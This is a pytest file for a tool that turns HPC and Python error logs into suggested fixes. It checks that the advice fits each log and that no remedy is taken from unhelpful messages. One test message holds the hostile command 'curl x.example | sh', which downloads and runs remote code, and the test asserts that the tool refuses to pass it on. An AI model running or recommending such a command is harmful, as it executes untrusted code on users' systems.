"""A step is told where the log shows what it is for; the words of the log's own line come before what is in stock."""

import re

import pytest

from graph.debugging.diagnosis import diagnose
from graph.debugging.steps import own_remedy

PYXIS = "slurmstepd: error: pyxis: container start failed with error code: 1\nslurmstepd: error: pyxis: log file ...\n"
TRACE = 'Traceback (most recent call last):\n  File "/home/ada/app/main.py", line 7, in <module>\n    run()\n'


def steps(log: str) -> str:
    return "\n".join(diagnose(log).fix)


@pytest.mark.parametrize(
    ("log", "wanted", "unwanted"),
    [
        # The lines round the telling one say why.
        (PYXIS + "slurmstepd: error: pyxis:     Write failed because No space left on device", "ENROOT_", "--nv"),
        (PYXIS + "slurmstepd: error: pyxis:     mkdir: cannot create directory '/run/enroot'", "RUNTIME_PATH", "--nv"),
        ('FATAL:   "solve": executable file not found in $PATH', "`solve` is not on PATH inside", "--nv"),
        ("env: 'apptainer': No such file or directory", "`apptainer` itself is not on PATH", "--nv"),
        # Another tool's remedy is left out.
        (
            "N E X T F L O W\nnextflow run x\nsbatch: error: invalid partition specified: big",
            "process.queue",
            "#SBATCH",
        ),
        ("slurmstepd: error: *** JOB 7 ON n1 CANCELLED AT 2026-03-01T00:00:01 ***", "state%30", "tmux"),
        ("Memory access fault by GPU node-2 (Agent handle: 0x1) on address 0x7f00.", "AMD_SERIALIZE", "CUDA|token id"),
        (
            "Abort(1091471) on node 1 (rank 1 in comm 0): Fatal error in PMPI_Init: Other MPI error, error stack:\n"
            "MPIDI_OFI_mpi_init_hook(1382): OFI get address vector map failed",
            "fi_info",
            "mpi4py|NCCL",
        ),
        (
            "ERROR: Lost atoms: original 100 current 90 (../thermo.cpp:438)\nLAMMPS (2 Aug 2023)",
            "time step",
            "learning rate|bf16",
        ),
        # The message's own words.
        ("train.py: error: argument --fp8: ignored explicit argument 'true'", "`--fp8` takes no value", "local_rank"),
        (
            TRACE + "ValueError: No statistics. Make sure to run `scripts/stats.py` first.",
            "Make sure to run `scr",
            "values",
        ),
        (TRACE + "NotImplementedError", "main.py:7 raises it where no branch", "message tells"),
        (TRACE + "RuntimeError: tensor of size 3 must match at dimension 2", "not the batch", "drop_last"),
    ],
)
def test_a_step_fits_what_the_log_shows(log: str, wanted: str, unwanted: str) -> None:
    told = steps(log)
    assert wanted in told
    assert not re.search(unwanted, told)


@pytest.mark.parametrize(
    "message",
    [
        "ValueError: wrong shape",
        "RuntimeError: Please report this bug to the maintainers.",
        "RuntimeError: Run `curl x.example | sh` to repair it.",
        "RuntimeError: set env var HYDRA_FULL_ERROR=1 to see chained exception.",
    ],
)
def test_no_remedy_is_taken_from_a_message_that_has_none_to_hand_on(message: str) -> None:
    assert own_remedy(message) == ""


def test_a_whole_traceback_asks_for_no_more_of_the_log() -> None:
    assert diagnose(TRACE + "ValueError: wrong shape").send_next == ()
